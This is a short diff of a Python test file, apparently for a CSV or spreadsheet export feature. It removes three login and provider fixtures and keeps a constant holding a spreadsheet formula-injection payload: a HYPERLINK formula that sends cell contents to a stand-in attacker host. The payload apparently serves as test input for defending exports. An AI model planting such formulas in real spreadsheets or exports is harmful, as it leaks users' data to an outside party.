@@ -61,22 +61,6 @@ FORBIDDEN = "".join(c for c in C0 if c not in "\t\n\r") + "\ufffe\uffff"
 FORMULA = '=HYPERLINK("http://aanval.example/?"&A1,"klik")'
 
 
-@pytest.fixture
-def provider():
-    return make_provider("Pedagogische begeleidingsdienst Gent", slug="pbd-gent")
-
-
-@pytest.fixture
-def staff(provider):
-    return provider_staff(provider)
-
-
-@pytest.fixture
-def staff_client(client, staff):
-    client.login(email=staff.email, password=PASSWORD)
-    return client
-
-
 def exported_rows(response) -> list[dict]:
     if response["Content-Type"].startswith("text/csv"):
         text = response.content.decode("utf-8-sig")
